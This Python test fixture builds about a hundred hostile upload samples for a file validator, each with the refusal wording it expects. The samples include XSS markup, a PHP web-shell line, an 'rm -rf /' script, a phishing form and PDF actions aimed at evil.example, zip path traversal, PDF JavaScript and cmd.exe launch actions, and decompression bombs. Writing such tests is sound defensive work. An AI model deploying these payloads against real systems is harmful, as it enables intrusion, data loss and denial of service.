"""A hundred files that somebody might send to do harm, each with what its refusal must say."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

Hostile = tuple[str, bytes, str]
"""What it is, its bytes, and words of the refusal."""

_TYPES = "We take PDF, PNG and JPEG files and plain text"
_MARKUP = "web page or a program"
_AFTER = "cut off, or something else follows"


def hostile() -> list[Hostile]:
    """All of them."""
    return [*_markup(), *_other_kinds(), *_active_pdfs(), *_broken_pdfs(), *_pictures()]


def pdf(change: "Change" = lambda _: None, **saved: object) -> bytes:
    """A PDF of one page, changed before it is saved."""
    data = io.BytesIO()
    with pikepdf.new() as made:
        page = made.add_blank_page(page_size=(200, 200))
        page.obj.Contents = made.make_stream(b"BT /F 12 Tf 20 100 Td (Agenda) Tj ET")
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F=font))
        change(made)
        made.save(data, **saved)
    return data.getvalue()


def picture(kind: str) -> bytes:
    """A small picture."""
    data = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(data, kind)
    return data.getvalue()


def _zip(**members: str) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in members.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), text)
    return data.getvalue()


def _markup() -> Iterator[Hostile]:
    for number, text in enumerate(
        (
            "<html><script>alert(1)</script></html>",
            "<!DOCTYPE html><body onload=alert(1)>",
            "\ufeff<html><body>after a mark</body></html>",
            "   \n\n<ScRiPt src=//evil.example></ScRiPt>",
            "Minutes\n\n<iframe src=javascript:alert(1)></iframe>",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            '<?xml version="1.0"?><svg><script>alert(1)</script></svg>',
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
            "<?php system($_GET['x']); ?>",
            "<img src=x onerror=alert(1)>",
            "<object data=evil.swf></object>",
            "<embed src=evil.swf>",
            "<form action=//evil.example><input name=password></form>",
            "<base href=//evil.example>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<math><mtext></mtext></math>",
            "<style>body{background:url(//evil.example)}</style>",
            "{\\rtf1\\ansi{\\object\\objocx}}",
            "MIME-Version: 1.0\nContent-Type: text/html\n\n<b>",
            "#!/bin/sh\nrm -rf /\n",
        )
    ):
        yield f"markup {number}", text.encode(), _MARKUP


def _other_kinds() -> Iterator[Hostile]:
    yield "nothing", b"", "The file is empty"
    kinds = {
        "Windows program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(60),
        "Linux program": b"\x7fELF\x02\x01\x01" + bytes(60),
        "Word": _zip(_Content_Types__xml="<x/>", word__document_xml="<x/>"),
        "Excel": _zip(xl__workbook_xml="<x/>"),
        "Word with macros": _zip(word__vbaProject_bin="x"),
        "a path out of the folder": _zip(____________etc__passwd="root"),
        "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "GIF": picture("GIF"),
        "GIF that is also a script": b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)",
        "GIF that is also a PDF": picture("GIF") + pdf(),
        "BMP": picture("BMP"),
        "TIFF": picture("TIFF"),
        "WebP": picture("WEBP"),
        "ICO": b"\x00\x00\x01\x00\x01\x00\x10\x10" + bytes(60),
        "gzip": b"\x1f\x8b\x08\x00" + bytes(60),
        "bzip2": b"BZh91AY&SY" + bytes(60),
        "xz": b"\xfd7zXZ\x00" + bytes(60),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
        "tar": bytes(257) + b"ustar\x0000" + bytes(200),
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "Flash": b"FWS\x0a" + bytes(60),
        "film file": b"\x00\x00\x00\x18ftypmp42" + bytes(60),
        "sound file": b"ID3\x03\x00\x00\x00" + bytes(60),
        "Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60),
        "database": b"SQLite format 3\x00" + bytes(60),
        "PostScript behind a mark": b"\xc5\xd0\xd3\xc6" + bytes(60),
        "UTF-16": "Minutes".encode("utf-16"),
        "Latin-1": "Caf\xe9 minutes".encode("latin-1"),
        "text with NUL": b"Minutes\x00<script>",
        "text that writes to a terminal": b"Minutes \x1b]0;owned\x07",
        "space before a PDF": b"\n" * 5 + b"\x00" + pdf(),
    }
    for name, data in kinds.items():
        yield name, data, _TYPES


Change = Callable[[pikepdf.Pdf], None]


def _root(**keys: object) -> Change:
    """Keys of the root of the file."""

    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.Root[f"/{key}"] = value

    return change


def _remark(**keys: object) -> Change:
    """An annotation on the first page."""

    def change(made: pikepdf.Pdf) -> None:
        found = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 20, 20]), **keys)
        made.pages[0].obj.Annots = Array([made.make_indirect(found)])

    return change


def _action(kind: str, **keys: object) -> Change:
    """Something done when the file is opened."""
    return _root(OpenAction=Dictionary(S=Name(f"/{kind}"), **keys))


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ"


def _deep(made: pikepdf.Pdf) -> None:
    made.Root.Deep = Array([Array([Dictionary(A=Array([Dictionary(JS=String("x"))]))])])


def _outside(made: pikepdf.Pdf) -> None:
    stream = Stream(made, b"")
    stream.stream_dict = Dictionary(F=String("/etc/passwd"))
    made.Root.Outside = made.make_indirect(stream)


def _as_stream(made: pikepdf.Pdf) -> None:
    _action("JavaScript", JS=made.make_stream(b"x"))(made)


def _active_pdfs() -> Iterator[Hostile]:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch)
    words = "sound or film"
    for name, change, says in (
        ("script at the start", _action("JavaScript", JS=String("x")), "a script"),
        ("script as a stream", _as_stream, "script"),
        ("script by name", _root(Names=Dictionary(JavaScript=Dictionary(Names=Array()))), "script"),
        ("script on a page", lambda p: p.pages[0].obj.__setitem__("/AA", script), "script|itself"),
        ("script in a remark", _remark(Subtype=Name.Link, A=script), "a script"),
        ("script deep inside", _deep, "a script"),
        ("script in a bookmark", _root(Outlines=Dictionary(First=Dictionary(A=script))), "script"),
        ("script after another", _root(OpenAction=Dictionary(S=Name.GoTo, Next=script)), "script"),
        ("script in the trailer", lambda p: p.trailer.__setitem__("/X", script), "a script"),
        ("something at closing", _root(AA=Dictionary(WC=Dictionary(S=Name.GoTo))), "by itself"),
        ("program", _action("Launch", F=String("cmd.exe")), "starts a program"),
        (
            "program on a click",
            _remark(Subtype=Name.Link, A=launch),
            "starts a program",
        ),
        ("form that sends", _action("SubmitForm", F=String("http://evil.example")), "sends what"),
        ("form that reads", _action("ImportData", F=String("x.fdf")), "reads another file"),
        ("jump away", _action("GoToR", F=String("\\\\evil\\x.pdf")), "jump into another"),
        ("jump inside", _action("GoToE"), "jump into an attached"),
        ("film started", _action("Rendition"), words),
        ("film", _action("Movie"), words),
        ("sound", _action("Sound"), words),
        ("rich media started", _action("RichMediaExecute"), words),
        ("hidden layers", _action("SetOCGState"), "hidden layers"),
        ("attached file", _attached, "an attached file"),
        ("attached to a remark", _remark(Subtype=Name.FileAttachment), "an attached file"),
        ("rich media", _remark(Subtype=Name.RichMedia), words),
        ("film in a remark", _remark(Subtype=Name.Movie), words),
        ("screen", _remark(Subtype=Name.Screen), words),
        ("sound in a remark", _remark(Subtype=Name.Sound), words),
        ("three dimensions", _remark(Subtype=Name("/3D")), "three dimensions"),
        ("form by script", _root(AcroForm=Dictionary(XFA=Array())), "works by a script"),
        ("collection", _root(Collection=Dictionary()), "collection of other files"),
        ("fetched piece", _outside, "fetched from another file"),
    ):
        yield name, pdf(change), says
        if name in {"script at the start", "program", "attached file"}:
            packed = pikepdf.ObjectStreamMode.generate
            yield f"{name}, packed", pdf(change, object_stream_mode=packed), says
    plain = pdf(
        _action("JavaScript", JS=String("xyz")),
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    spelt = plain.replace(b"/JavaScript", b"/JavaScr#69pt").replace(b"(xyz)", b"(x)")
    yield "script by another spelling", spelt, "script"


def _broken_pdfs() -> Iterator[Hostile]:
    def lock(**passwords: str) -> bytes:
        return pdf(encryption=pikepdf.Encryption(R=6, **passwords))

    def many(made: pikepdf.Pdf) -> None:
        for _ in range(1000):
            made.add_blank_page(page_size=(10, 10))

    def none(made: pikepdf.Pdf) -> None:
        del made.pages[0]

    def huge(made: pikepdf.Pdf) -> None:
        made.pages[0].mediabox = Array([0, 0, 10**6, 10**6])

    def bomb(made: pikepdf.Pdf) -> None:
        for number in range(6):
            stream = Stream(made, hundred)
            stream.stream_dict = Dictionary(Filter=Name.FlateDecode)
            made.Root[f"/Bomb{number}"] = made.make_indirect(stream)

    def bomb_in_bomb(made: pikepdf.Pdf) -> None:
        for number in range(6):
            stream = Stream(made, zlib.compress(hundred, 9))
            stream.stream_dict = Dictionary(Filter=Array([Name.FlateDecode, Name.FlateDecode]))
            made.Root[f"/Bomb{number}"] = made.make_indirect(stream)

    hundred = zlib.compress(bytes(100 * 2**20), 1)
    yield "locked", lock(user="secret", owner="secret"), "locked with a password"
    yield "locked against changes", lock(user="", owner="secret"), "locked against changes"
    yield "cut off", pdf()[:300], _AFTER
    yield "end without a beginning", b"%PDF-1.7\n%%EOF\n", "damaged"
    yield "broken index", pdf().replace(b"startxref\n", b"startxref\n9"), "damaged"
    yield "PDF and a zip file", pdf() + _zip(a="b"), _AFTER
    yield "PDF and a web page", pdf() + b"<html><script>alert(1)</script>", _AFTER
    yield "PDF and a zip that begins earlier", pdf() + b"PK\x05\x06" + bytes(18), _AFTER
    yield "no page", pdf(none), "no page"
    yield "too many pages", pdf(many), "more than 1000 pages"
    yield "a page as large as a field", pdf(huge), "a size that no paper has"
    yield "a bomb", pdf(bomb), "far more than it seems|far larger inside"
    twice = pdf(bomb_in_bomb, compress_streams=False)  # or it would be packed anew, and once only
    yield "a bomb in a bomb", twice, "far more than it seems|far larger inside"


def _pictures() -> Iterator[Hostile]:
    png, jpeg = picture("PNG"), picture("JPEG")
    yield "PNG and a web page", png + b"<script>alert(1)</script>", _AFTER
    yield "PNG and a zip file", png + _zip(a="b"), _AFTER
    yield "PNG cut off", png[:40], _AFTER
    yield "PNG with another sum", png.replace(b"IDAT", b"IDAX"), "damaged"
    yield "PNG bomb", _png_bomb(), "million pixels"
    yield "moving PNG", _moving(), "moves"
    yield "JPEG and a web page", jpeg + b"<html>", _AFTER
    yield "JPEG cut off", jpeg[:100], _AFTER
    yield "JPEG of nothing", b"\xff\xd8\xff\xd9", "damaged"


def _png_bomb() -> bytes:
    """Says that it is 30,000 dots wide and high, in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        total = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", total)

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(3751) * 100)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _moving() -> bytes:
    data = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(data, "PNG", save_all=True, append_images=frames[1:])
    return data.getvalue()
